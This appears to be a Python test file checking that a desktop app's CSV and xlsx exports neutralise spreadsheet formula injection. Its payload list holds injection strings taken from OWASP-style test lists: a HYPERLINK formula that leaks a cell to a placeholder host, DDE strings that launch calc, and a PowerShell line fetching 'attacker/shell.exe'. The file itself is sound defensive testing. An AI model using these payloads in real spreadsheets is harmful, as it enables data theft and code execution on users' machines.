"""Exports neutralise formulas (OWASP CSV injection): a name or an audience that begins
like a formula reaches the spreadsheet as text, in every writer the program has."""

from __future__ import annotations

import csv
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

import desktop_app
from desktop_app.core.domain import periods
from desktop_app.core.domain.unit_work import EducationDraft, EducationKind
from desktop_app.reports import key_figures, tabular
from desktop_app.reports.document import Count, Document, Section, Table

# From OWASP's CSV Injection page and its usual test lists.
PAYLOADS = [
    '=HYPERLINK("http://example.invalid?leak="&A1,"Klicka här")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
]


def _document(payload: str) -> Document:
    return Document(
        title=payload,
        facts=[("Kurs", payload)],
        sections=[
            Section(payload, table=Table([payload, "Antal"], [[payload, Count(12)], ["Lund", -3]]))
        ],
    )


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=";") for cell in row]


def _xlsx_cells(path: Path):
    sheet = load_workbook(path).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_document_export_keeps_formulas_as_text(tmp_path, payload):
    document = _document(payload)
    cells = _csv_cells(tabular.write_csv(document, tmp_path / "r.csv"))
    assert "'" + payload in cells and payload not in cells
    assert "-3" in cells and "12" in cells  # numbers stay numbers
    book = _xlsx_cells(tabular.write_xlsx(document, tmp_path / "r.xlsx"))
    assert all(c.data_type != "f" for c in book)
    assert payload.replace("\r", "\n") in [c.value for c in book]  # xlsx keeps \n only
    assert {c.value for c in book if c.data_type == "n"} >= {12, -3}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_key_figures_with_a_hostile_row_name_export_as_text(vault, tmp_path, payload):
    s = vault.session
    table = s.statistics.key_figures(periods.year(date.today().year))
    first = table.lines[0]
    hostile = type(table)(
        **{
            **table.__dict__,
            "lines": [
                type(first)(
                    **{
                        **first.__dict__,
                        "row": type(first.row)(**{**first.row.__dict__, "label": payload}),
                    }
                ),
                *table.lines[1:],
            ],
        }
    )
    cells = _csv_cells(key_figures.write_csv(hostile, tmp_path / "k.csv"))
    assert "'" + payload in cells
    book = _xlsx_cells(key_figures.write_xlsx(hostile, tmp_path / "k.xlsx", payload))
    assert all(c.data_type != "f" for c in book)


def test_an_audience_typed_as_a_formula_reaches_the_municipality_as_text(vault, tmp_path):
    s = vault.session
    s.work.record_education(
        EducationDraft(
            day=date.today() - timedelta(days=2),
            kind=EducationKind.LECTURE,
            participants=20,
            audience=PAYLOADS[0],
        )
    )
    rows = s.work.education(date.today() - timedelta(days=10), date.today())
    document = Document(
        "Utbildning",
        sections=[Section("", table=Table(["Publik"], [[e.draft.audience for e in rows]]))],
    )
    assert "'" + PAYLOADS[0] in _csv_cells(tabular.write_csv(document, tmp_path / "u.csv"))


def test_no_other_writer_exists():
    """Every CSV and xlsx the program writes goes through the two writers tested here."""
    package = Path(desktop_app.__file__).parent
    writers = set()
    for path in package.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "Workbook(" in source:
            writers.add(path.relative_to(package).as_posix())
    assert writers == {"reports/tabular.py", "reports/key_figures.py"}
